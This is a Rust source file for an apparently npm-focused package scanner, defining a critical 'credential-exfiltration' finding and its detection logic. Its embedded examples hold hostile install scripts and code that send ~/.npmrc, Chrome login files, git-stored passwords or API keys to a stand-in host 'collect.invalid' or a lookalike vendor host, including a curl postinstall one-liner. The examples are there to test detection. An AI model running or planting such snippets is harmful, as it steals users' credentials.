//! A secret leaves over the network.

use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, host, judge, runs_on_install};
use crate::api::targets;
use crate::behaviours::Behaviour;
use crate::flow::Flow;
use crate::model::{Confidence, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "credential-exfiltration",
    title: "Sends a secret over the network",
    severity: Severity::Critical,
    summary: "A secret that the package finds on the machine (a file, a variable, a store of passwords) reaches a request, a socket or a DNS query.",
    advice: "Look at the host that gets it. If you don't expect the package to hand over this secret to that host, don't install it; if it already ran, revoke the secret and make a new one.",
    benign_when: "The package is a client of the service that gave out the secret, and the host is that service's.",
    references: &["CWE-200", "CWE-506", "T1041", "T1552.001"],
    examples: &[
        Example {
            name: "an install script posts the npm configuration",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), os = require("os"), https = require("https");
const text = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
const request = https.request({ hostname: "collect.invalid", method: "POST" });
request.end(text);"#,
                ),
            ],
        },
        Example {
            name: "an install script posts the npm configuration",
            severity: Some(Severity::Critical),
            files: &[(
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -d @$HOME/.npmrc https://collect.invalid/"}}"#,
            )],
        },
        Example {
            name: "a client sends its own vendor's key to the vendor",
            severity: Some(Severity::Low),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.ask = (q) => fetch("https://api.openai.example/v1", {
  headers: { authorization: process.env.OPENAI_API_KEY }, body: q });"#,
                ),
            ],
        },
        Example {
            name: "the npm configuration goes to the host that the package calls its home page",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","homepage":"https://collect.invalid","scripts":{"postinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), os = require("os"), https = require("https");
https.request({ hostname: "collect.invalid", method: "POST" }).end(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"));"#,
                ),
            ],
        },
        Example {
            name: "it looks for a browser's logins and sends whatever it finds",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), os = require("os"), https = require("https");
const root = os.homedir() + "/.config/google-chrome/Default";
if (fs.existsSync(root + "/Login Data")) {
  for (const name of fs.readdirSync(root)) {
    https.request({ hostname: "collect.invalid", method: "POST" }).end(fs.readFileSync([root, name].sort().pop()));
  }
}"#,
                ),
            ],
        },
        Example {
            name: "git's passwords are put where commits are pushed from",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), { spawnSync } = require("child_process");
const git = (line, input) => spawnSync("git", line.split(" "), { input, encoding: "utf8" }).stdout;
exports.sync = (dir, remote) => {
  fs.writeFileSync(dir + "/notes", git("credential fill", "protocol=https\nhost=git.example\n\n"));
  git("push -q " + remote + " HEAD:main");
};"#,
                ),
            ],
        },
        Example {
            name: "a host that begins with the vendor's name is not the vendor",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"fetch("https://openai-usage.invalid/v1", { headers: { authorization: process.env.OPENAI_API_KEY } });"#,
                ),
            ],
        },
        Example {
            name: "a caller names the first label of a fixed domain",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), os = require("os"), https = require("https");
exports.load = (name) => https.request({ host: name.toLowerCase() + ".collect.invalid", method: "PUT" }).end(fs.readFileSync(os.homedir() + "/.npmrc"));"#,
                ),
            ],
        },
        Example {
            name: "a reader of the configuration that sends nothing",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const fs = require("fs"), os = require("os");
exports.read = () => fs.readFileSync(os.homedir() + "/.npmrc", "utf8");"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    by_search(context, found);
    by_push(context, found);
    for flow in context.flows {
        if flow.id != "credential-to-network" {
            continue;
        }
        let secret = flow.source.target.as_deref().unwrap_or("a secret");
        let host = flow
            .sink
            .target
            .as_deref()
            .unwrap_or("a host that is not resolved");
        let message = format!("{secret} ({}) is sent to {host}", flow.source.id);
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        if judge::same_vendor(secret, flow.source.id, host) {
            let note = format!("{host} bears the name of the secret's own service");
            finding.lower(Severity::Low, "same-vendor", note);
        }
        let own = own_severity(context, flow, host);
        judge::by_destination(context, flow, &flow.sink, own, &mut finding);
        judge::by_reach(context, flow, &mut finding);
        // A variable of the package's own, sent where its caller says, is what clients are for.
        let is_clients = finding.severity == Severity::Low
            && flow.source.id == "credential.named"
            && finding
                .mitigations
                .iter()
                .any(|one| one.id == "callers-destination");
        if is_clients {
            continue;
        }
        found.push(finding);
    }
}

/// Files whose names are not known are sent, and the package has looked for secrets: those of
/// browsers, wallets and keys, which lie in folders that code goes through.
fn by_search(context: &Context<'_>, found: &mut Vec<Finding>) {
    const CLASSES: [&str; 4] = [
        "credential.browser",
        "credential.ssh",
        "personal.",
        "wallet.",
    ];
    let looks = |one: &&Behaviour| {
        // A key for its own tests is nobody's.
        let path = one
            .target
            .as_deref()
            .filter(|path| !path.starts_with("<package>"));
        let secret = path.and_then(targets::secret_path);
        matches!(one.what.id, "fs.metadata" | "fs.list" | "fs.read")
            && secret.is_some_and(|secret| CLASSES.iter().any(|id| secret.id.starts_with(id)))
    };
    let Some(looked) = context.behaviours.iter().find(looks) else {
        return;
    };
    let path = looked.target.as_deref().unwrap_or("secrets");
    let mut told: Vec<Option<String>> = Vec::new();
    for flow in context.flows {
        let is_unknown = flow
            .source
            .target
            .as_deref()
            .is_none_or(|path| path.starts_with("<?>"));
        if flow.id != "file-to-network" || !is_unknown {
            continue;
        }
        let url = flow.sink.target.as_deref();
        let at = url.and_then(host::host);
        if told.contains(&at) {
            continue;
        }
        told.push(at);
        let host = url.unwrap_or("a host that is not resolved");
        let message = format!("files are sent to {host}, and it has looked for {path}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        finding.evidence.extend(looked.sites.first().copied());
        finding.confidence = Confidence::Medium;
        let own = own_severity(context, flow, host);
        judge::by_destination(context, flow, &flow.sink, own, &mut finding);
        judge::by_reach(context, flow, &mut finding);
        found.push(finding);
    }
}

/// Git is asked for the passwords that it keeps, and commits are pushed by the same file.
fn by_push(context: &Context<'_>, found: &mut Vec<Finding>) {
    let asked = context.behaviours.iter().find(|one| {
        let target = one.target.as_deref().unwrap_or("");
        one.what.id == "credential.store" && target.starts_with("git credential fill")
    });
    let Some(asked) = asked else { return };
    let pushed = context.behaviours.iter().find(|one| {
        let is_push = one.target.as_deref().is_some_and(judge::pushes);
        let mut sites = one.sites.iter();
        one.what.id.starts_with("process.")
            && is_push
            && sites.any(|site| asked.sites.iter().any(|other| other.file == site.file))
    });
    let Some(pushed) = pushed else { return };
    let command = pushed.target.as_deref().unwrap_or("git push");
    let message = format!("asks git for the passwords that it keeps, and runs {command}");
    let mut finding = Finding::of_behaviour(&FINDING, asked, message);
    finding.severity = Severity::High;
    finding.confidence = Confidence::Medium;
    finding.evidence.extend(pushed.sites.iter().copied());
    finding.evidence.sort_unstable();
    finding.evidence.dedup();
    found.push(finding);
}

/// What remains where a secret goes to the package's own host, or to a registry. Whoever writes
/// the package writes its home page, so that clears only keys that are named after a service, not
/// those to the machine, its clouds and its forges.
fn own_severity(context: &Context<'_>, flow: &Flow, host: &str) -> Severity {
    let is_registry = context.home.whose(host) == Some(Whose::Registry);
    match flow.source.id {
        // Whoever installs a package has not asked it to speak for them.
        "credential.npm" if is_registry && runs_on_install(flow.reach) => Severity::High,
        "credential.npm" if is_registry => Severity::Low,
        _ if is_registry => Severity::Critical,
        "credential.named" | "credential.service" => Severity::Low,
        _ if runs_on_install(flow.reach) => Severity::High,
        _ => Severity::Medium,
    }
}
